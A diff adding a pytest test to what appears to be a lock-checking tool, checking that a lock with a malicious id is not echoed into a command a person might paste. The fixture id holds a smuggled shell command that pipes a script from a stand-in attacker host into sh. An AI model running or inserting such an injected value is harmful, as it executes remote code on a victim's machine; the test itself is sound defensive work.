@@ -71,3 +71,11 @@ def test_a_lock_of_which_a_half_is_there_is_no_lock_that_is_passed_over(tmp_path
 
     with pytest.raises(ValueError, match="Unterminated"):
         cordon_mark.upgrade()
+
+
+def test_an_id_that_is_none_is_in_no_command() -> None:
+    """A person would paste what stands there."""
+    lock = {**LOCK, "id": "1; curl -s evil.example|sh #"}
+    (problem,) = lock_problems({"gpu-01": {"upgrade": lock}}, None)
+    assert "not known (its id is" in problem
+    assert "in front of the command" not in problem
